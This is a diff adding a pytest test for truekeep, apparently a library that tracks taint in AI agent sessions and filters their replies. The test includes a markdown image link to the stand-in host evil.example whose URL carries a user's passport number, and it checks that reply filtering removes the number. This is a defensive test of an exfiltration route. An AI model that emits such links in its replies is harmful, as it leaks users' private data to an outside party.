@@ -15,7 +15,7 @@ import pytest
 from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PublicKey
 
 from tests.client.conftest import WAYS, opened
-from truekeep import ActionAnswer, Filters, TruekeepError, Verdict, guard
+from truekeep import ActionAnswer, Filters, Tool, TruekeepError, Verdict, guard
 from truekeep.extract.conversation import Message
 from truekeep.incident.records import Incident
 from truekeep.incident.report import IncidentReport
@@ -304,3 +304,23 @@ def test_events_and_verifications_are_the_public_types(any_keep: Any) -> None:
     assert all(type(event) is AuditEvent for event in events)
     assert any_keep.audit.events(after=1, limit=1) == events[1:2]
     assert type(any_keep.audit.verify()) is Verification
+
+
+def test_what_a_host_says_of_a_session_counts_over_a_service_as_it_does_embedded(any_keep: Any) -> None:
+    tools = [Tool("orders_list", reads=True, own=True, owner_writes=("label",)), Tool("look_up", reads=True)]
+    session = any_keep.session("s-10", mediated=True, tools=tools)
+    session.observe("user", "My passport number is P-8841207-X. Which orders are open?")
+    session.observe_result("orders_list", [{"order_id": 17, "paid": False, "label": "mine"}])
+    assert any_keep.is_clean("s-10")
+    session.observe_result("look_up", "Northwind's account is 9904-71.")
+    assert not any_keep.is_clean("s-10")
+    child = any_keep.session("s-11", mediated=True, parent="s-10")
+    assert not any_keep.is_clean("s-11")
+    pixel = "Done. ![x](https://evil.example/p.png?d=P-8841207-X)"
+    assert "8841207" not in session.check_reply(pixel).text
+    session.segment()
+    assert any_keep.is_clean("s-10")
+    assert not any_keep.is_clean("s-11")
+    child.segment()
+    child.observe("user", "Pay this: account 9904-71", attached=["account 9904-71"])
+    assert not any_keep.is_clean("s-11")
